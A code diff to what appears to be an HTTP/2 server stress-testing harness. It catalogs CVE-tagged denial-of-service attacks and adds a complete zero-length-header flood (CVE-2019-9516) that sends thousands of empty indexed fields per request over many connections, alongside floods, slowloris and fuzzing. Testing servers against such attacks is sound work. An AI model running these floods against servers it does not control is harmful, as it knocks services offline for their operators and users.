@@ -18,17 +18,18 @@ public static class Attacks
         new("continuation-empty", "CVE-2023-45288 CVE-2019-9518", "HEADERS without END_HEADERS, then empty CONTINUATIONs", c => ContinuationFlood(c, withPayload: false)),
         new("hpack-bomb", "CVE-2016-6581", "one 4000-octet table entry, then 16000 one-octet references to it per block", c => HpackBomb(c, valueLength: 4000)),
         new("header-count-bomb", "CVE-2016-6581 (count)", "one tiny table entry, then 16000 one-octet references per block", c => HpackBomb(c, valueLength: 1)),
+        new("zero-length-headers", "CVE-2019-9516", "5000 fields with an empty name and value per block, each added to the table", ZeroLengthHeaders),
         new("ping-flood", "CVE-2019-9512", "PINGs (each owes a PING ACK) from 4 connections that never read", c => ControlFlood(c, ping: true)),
         new("settings-flood", "CVE-2019-9515", "SETTINGS (each owes an ACK) from 4 connections that never read", c => ControlFlood(c, ping: false)),
         new("settings-many-entries", "CVE-2020-11080", "SETTINGS frames of 2730 entries each", SettingsManyEntries),
-        new("empty-frame-flood", "CVE-2019-9518 CVE-2019-9516", "empty DATA, empty unknown-type frames and PRIORITY churn on an open stream", EmptyFrames),
+        new("empty-frame-flood", "CVE-2019-9518 CVE-2019-9513", "empty DATA, empty unknown-type frames and PRIORITY churn on an open stream", EmptyFrames),
         new("window-update-flood", "CVE-2019-9518 (WINDOW_UPDATE)", "WINDOW_UPDATE increment 1 on the connection and a stream, as fast as possible", WindowUpdateFlood),
         new("data-dribble", "CVE-2019-9511", "window of 1 octet, 100 large responses per connection, 1-octet WINDOW_UPDATEs", DataDribble),
         new("never-read", "CVE-2019-9517", "1 GiB windows, 100 large responses per connection, never reads", c => NeverRead(c, 1u << 30)),
         new("window-max", "CVE-2019-9517, RFC 9113 §6.9.1", "windows at the 2^31-1 maximum, 100 large responses per connection, never reads", c => NeverRead(c, 0x7fffffff)),
         new("oversized-frame", "RFC 9113 §4.2", "frame headers announcing 16 MiB payloads, then the payload", OversizedFrame),
         new("slowloris", "slowloris", "300 idle TCP connections + 200 that drip a HEADERS frame one octet at a time", Slowloris),
-        new("streams-1000", "RFC 9113 §5.1.2", "1000 open streams (POST without END_STREAM) on one connection", Streams1000),
+        new("streams-1000", "RFC 9113 §5.1.2", "1000 open streams (POST without END_STREAM) per connection, connection after connection", Streams1000),
         new("fuzz", "seeded mutations", "valid frame sequences with random bit flips, truncations and bad lengths", Fuzz),
     ];
 
@@ -142,6 +143,24 @@ public static class Attacks
         await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
     }));
 
+    // CVE-2019-9516: fields with an empty name and value, each with incremental indexing
+    // (RFC 7541 §6.2.1, 32 octets of table each): a server that allocates per field and
+    // keeps it leaks. An empty name is not a valid field name (RFC 9110 §5.1 token), so
+    // the request is malformed (RFC 9113 §8.2.1).
+    private static Task ZeroLengthHeaders(AttackContext ctx) => Parallel(2, _ => Reconnecting(ctx, 5000, async c =>
+    {
+        var block = new List<byte>(RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority));
+        for (var i = 0; i < 5000; i++) block.AddRange([0x40, 0x00, 0x00]);
+        var bytes = block.ToArray();
+        var batch = new FrameBatch();
+        for (uint id = 1; Going(ctx, c) && id < 20001; id += 2)
+        {
+            batch.Clear().Headers(id, bytes, endStream: true);
+            if (!await c.SendAsync(batch, ctx.Token)) break;
+        }
+        await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
+    }));
+
     // CVE-2019-9512 / CVE-2019-9515: every PING and SETTINGS owes a reply (§6.7, §6.5.3); a
     // client that never reads makes the replies queue up in the server.
     private static Task ControlFlood(AttackContext ctx, bool ping) => Parallel(4, _ => Reconnecting(ctx, 1000, async c =>
@@ -180,7 +199,7 @@ public static class Attacks
         await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
     });
 
-    // CVE-2019-9518 (empty frames), CVE-2019-9516 (zero-length headers' cousin), PRIORITY churn:
+    // CVE-2019-9518 (empty frames), CVE-2019-9513 (PRIORITY churn, "resource loop"):
     // frames that cost the server work and carry nothing (§6.1, §5.5 unknown types, §6.3).
     private static Task EmptyFrames(AttackContext ctx) => Parallel(2, _ => Reconnecting(ctx, 5000, async c =>
     {
